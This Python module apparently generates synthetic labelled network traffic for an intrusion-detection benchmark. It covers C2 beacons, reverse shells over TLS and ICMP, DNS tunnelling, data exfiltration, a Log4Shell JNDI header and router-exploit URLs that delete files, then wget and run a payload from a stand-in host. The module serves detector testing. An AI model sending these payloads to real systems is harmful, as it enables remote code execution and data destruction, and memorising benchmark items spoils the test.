"""More channels of those who are inside already, and more ways out for data."""

from __future__ import annotations

import base64
from typing import Final

from benchmarks.byhand.kinds import attack
from benchmarks.byhand.messages import BROWSER, http, request, tls
from benchmarks.byhand.packets import CLIENT, SERVER, Reply, Step, Traffic

INFECTED: Final = "198.18.14.66"
WEB: Final = "198.18.100.80"
CONTROLLER: Final = "198.19.44.8"
RESOLVER: Final = "198.18.10.10"


@attack("c2_beacon")
def cs_http_half_jitter(net: Traffic) -> None:
    """An implant asks for a page each minute, up to half a minute earlier, with a cookie of its own."""
    cookie = base64.b64encode(net.noise(128))
    for at in net.paced(60, 30, 60):
        asked = request(b"/ca", b"Cookie: " + cookie + b"\r\n")
        told = b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 0\r\n\r\n"
        net.connection(at, INFECTED, (CONTROLLER, 80), [(CLIENT, asked, 0.001), (SERVER, told, 0.05)], rtt=0.04)


@attack("c2_beacon")
def tls_5s_half_jitter(net: Traffic) -> None:
    """An implant calls over TLS every five seconds, half of it jitter; once in a while there is a task."""
    for at in net.paced(150, 2.5, 7.5):
        task = net.random.random() < 0.05
        talk = tls(net, 5000 if task else 330, 2600 if task else 120)
        net.connection(at, INFECTED, (CONTROLLER, 443), talk, rtt=0.04)


@attack("c2_beacon")
def empire_http(net: Traffic) -> None:
    """An agent of a PowerShell framework asks one of three pages every five seconds, a fifth of it jitter."""
    for at in net.paced(120, 4, 5):
        page = net.random.choice([b"/admin/get.php", b"/news.php", b"/login/process.php"])
        asked = request(page, b"Cookie: session=" + base64.b64encode(net.noise(60)) + b"\r\n")
        told = b"HTTP/1.0 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nServer: Microsoft-IIS/7.5\r\n\r\n"
        talk = [(CLIENT, asked, 0.001), (SERVER, told + b"<html><body><h1>It works!</h1></body></html>", 0.02)]
        net.connection(at, INFECTED, (CONTROLLER, 80), talk, rtt=0.04, closer=SERVER)


@attack("c2_beacon", "dns_tunnel")
def doh_poller(net: Traffic) -> None:
    """An implant asks a public resolver over HTTPS for its next task every ten seconds."""
    for at in net.paced(70, 9, 11):
        net.connection(at, INFECTED, ("198.19.8.8", 443), tls(net, 190, 560), rtt=0.012)


@attack("c2_beacon")
def irc_bot(net: Traffic) -> None:
    """A bot in a channel of IRC, which is pinged, and now and then told what to do."""
    talk: list[Step] = [
        (CLIENT, b"NICK [DE|XP|00|P|48213]\r\nUSER xqzr 0 0 :xqzr\r\n", 0.1),
        (SERVER, b":irc 001 [DE|XP|00|P|48213] :Welcome\r\n:irc 376 :End of MOTD\r\n", 0.1),
        (CLIENT, b"JOIN #owned s3cret\r\n", 0.1),
        (SERVER, b":irc 332 #owned :.advscan lsass 100 5 0 -r\r\n", 0.1),
    ]
    for turn in range(24):
        talk += [(SERVER, b"PING :irc.example\r\n", 30.0), (CLIENT, b"PONG irc.example\r\n", 0.05)]
        if turn % 4 == 3:
            talk += [
                (SERVER, b":boss PRIVMSG #owned :.udp 198.19.2.2 1000 4096 100\r\n", net.random.uniform(1, 20)),
                (CLIENT, b"PRIVMSG #owned :[UDP]: Sending 1000 packets to 198.19.2.2\r\n", 0.1),
            ]
    net.connection(0, INFECTED, (CONTROLLER, 6667), talk, rtt=0.08, end="none")


@attack("c2_beacon")
def shell_over_tls(net: Traffic) -> None:
    """A shell that calls out over TLS, and somebody types now and then."""
    talk = tls(net, 60, 30)
    for _ in range(25):
        size = net.random.randrange(40, 3000)
        talk += [
            (SERVER, b"\x17\3\3\0\x24" + net.noise(36), net.random.uniform(1, 12)),
            (CLIENT, b"\x17\3\3" + size.to_bytes(2, "big") + net.noise(size), 0.05),
        ]
    net.connection(0, INFECTED, (CONTROLLER, 443), talk, rtt=0.05)


@attack("c2_beacon")
def rat_keepalive(net: Traffic) -> None:
    """A RAT of its own protocol: the controller asks for the window's title every three seconds."""
    talk: list[Step] = [
        (CLIENT, b"118\0ll|'|'|SGFjS2Vk|'|'|PC01|'|'|anna|'|'|26-03-01|'|'||'|'|Win 10|'|'|No|'|'|0.7d", 0.1)
    ]
    for _ in range(100):
        title = b"act|'|'|" + base64.b64encode(net.noise(net.random.randrange(6, 30)))
        talk += [(SERVER, b"3\0act", net.random.uniform(2.8, 3.2)), (CLIENT, b"%d\0" % len(title) + title, 0.02)]
    net.connection(0, INFECTED, (CONTROLLER, 5552), talk, rtt=0.06, end="none")


@attack("exfiltration", "c2_beacon", "icmp_flood", "other_exploit")
def icmp_shell(net: Traffic) -> None:
    """A shell whose words are echo requests and replies."""
    at = 0.0
    for number in range(150):
        at += net.random.uniform(0.15, 0.3)
        size = net.random.choice([0, 0, 0, 64, 64, 47])
        mark = b"\0\1" + number.to_bytes(2, "big")
        net.icmp(at, INFECTED, CONTROLLER, (8, 0), mark + b"x" * size)
        net.icmp(at + 0.05, CONTROLLER, INFECTED, (0, 0), mark + b"dir c:\\" * net.random.choice([0, 0, 0, 1]))


@attack("web_attack", "other_exploit", "c2_beacon")
def log4j_callback(net: Traffic) -> None:
    """A name in a header has the web server ask a far directory, which sends it to a far page."""
    lookup = b"X-Api-Version: ${jndi:ldap://198.19.44.8:1389/Basic/Command/Base64/d2hvYW1p}\r\n"
    for turn in range(3):
        at = turn * 4.0
        http(net, at, "198.18.113.9", WEB, request(b"/", lookup), 400)
        talk = [
            (CLIENT, b"\x30\x0c\2\1\1\x60\7\2\1\3\4\0\x80\0", 0.001),
            (SERVER, b"\x30\x0c\2\1\1\x61\7\x0a\1\0\4\0\4\0", 0.05),
            (CLIENT, b"\x30\x50\2\1\2\x63\x4b\4\x1bBasic/Command/Base64/d2hvYW1p" + b"\x0a\1\0" * 9, 0.001),
            (SERVER, b"\x30\x81\xb0\2\1\2\x64\x81\xaa\4\1xjavaClassName\3foojavaCodeBase\x19http://198.19.44.8/", 0.05),
        ]
        net.connection(at + 0.1, WEB, (CONTROLLER, 1389), talk, rtt=0.05)
        http(net, at + 0.5, WEB, (CONTROLLER, 8888), request(b"/Exploit.class", agent=b"Java/1.8.0_181"), 1400)


@attack("dns_tunnel", "exfiltration")
def dns_file(net: Traffic) -> None:
    """A file leaves in names, eight a second, each of three labels of base32."""
    for at in net.paced(300, 0.08, 0.2):
        labels = [base64.b32encode(net.noise(35)).decode().rstrip("=").lower() for _ in range(3)]
        net.dns(at, INFECTED, RESOLVER, ".".join(labels) + ".f.example.net", reply=Reply(3))


@attack("dns_tunnel", "c2_beacon")
def dns_slow_text(net: Traffic) -> None:
    """An implant asks for the text of a new name each half minute, among a browser's lookups."""
    for at in net.paced(50, 25, 35):
        net.dns(
            at,
            INFECTED,
            RESOLVER,
            f"{net.noise(14).hex()}.api.example-cdn.net",
            16,
            Reply(data=b"\x50" + net.noise(80)),
        )
    for at in net.arrivals(1400, 0.08):
        net.dns(at, INFECTED, RESOLVER, f"www{net.random.randrange(60)}.example.com")


@attack("exfiltration")
def post_archives(net: Traffic) -> None:
    """Twelve archives of two megabytes are posted to a far host in the clear, among ordinary pages."""
    for turn in range(12):
        body = net.noise(2000) * 1000
        asked = b"POST /u.php HTTP/1.1\r\nHost: 198.19.44.8\r\nUser-Agent: curl/7.68.0\r\nContent-Length: %d\r\n\r\n"
        talk = [
            (CLIENT, asked % len(body) + body, 0.001),
            (SERVER, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", 0.1),
        ]
        net.connection(20 + turn * 12.0, INFECTED, (CONTROLLER, 80), talk, rtt=0.04)
    for at in net.arrivals(180, 0.3):
        http(net, at, INFECTED, net.stranger(), request(b"/p%d" % net.random.randrange(99), agent=BROWSER), 9000)


@attack("exfiltration")
def sync_to_cloud(net: Traffic) -> None:
    """A tool copies a share to a cloud that nobody here uses: four uploads at once, forty in all."""
    for turn in range(40):
        talk = tls(net, 700, 400)
        talk += [
            (CLIENT, b"\x17\3\3\x40\0" + net.noise(999) * 1000, 0.03),
            (SERVER, b"\x17\3\3\0\x80" + net.noise(128), 0.1),
        ]
        net.connection(turn // 4 * 5 + turn % 4 * 0.1, INFECTED, (f"198.19.200.{10 + turn % 3}", 443), talk, rtt=0.04)


@attack("web_attack", "web_scan", "other_exploit")
def router_exploits(net: Traffic) -> None:
    """A worm tries the flaws of home routers at web servers, with commands to fetch itself."""
    for turn, at in enumerate(net.paced(40, 0.3, 1.2)):
        paths = (
            b"/shell?cd+/tmp;rm+-rf+*;wget+http://198.19.44.8/jaws;sh+/tmp/jaws",
            b"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.19.44.8/Mozi.m+-O+/tmp/n",
            b"/cgi-bin/;cd${IFS}/var/tmp;wget${IFS}http://198.19.44.8/x;sh${IFS}x",
        )
        target = f"198.18.100.{20 + turn % 20}"
        http(net, at, "198.19.66.77", target, request(paths[turn % 3], agent=b"Hello, world"), 300, b"404 Not Found")
